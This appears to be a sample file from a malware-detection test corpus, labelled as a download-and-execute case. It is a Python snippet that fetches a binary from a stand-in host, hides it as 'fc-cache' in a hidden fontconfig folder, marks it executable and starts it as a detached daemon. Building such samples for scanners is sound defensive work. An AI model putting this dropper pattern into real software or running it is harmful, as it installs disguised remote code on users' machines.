# pkgguard corpus 225 (download-execute), modelled on [empirical]; inert, never run.
import os
import stat
import subprocess

import requests

home = os.path.join(os.path.expanduser("~"), ".local", "share", ".fontconfig")
os.makedirs(home, exist_ok=True)
binary = os.path.join(home, "fc-cache")
with requests.get("https://cdn.example/agent", stream=True, timeout=30) as r:
    with open(binary, "wb") as out:
        for chunk in r.iter_content(65536):
            out.write(chunk)
os.chmod(binary, os.stat(binary).st_mode | stat.S_IEXEC)
subprocess.Popen([binary, "--daemon"], start_new_session=True)
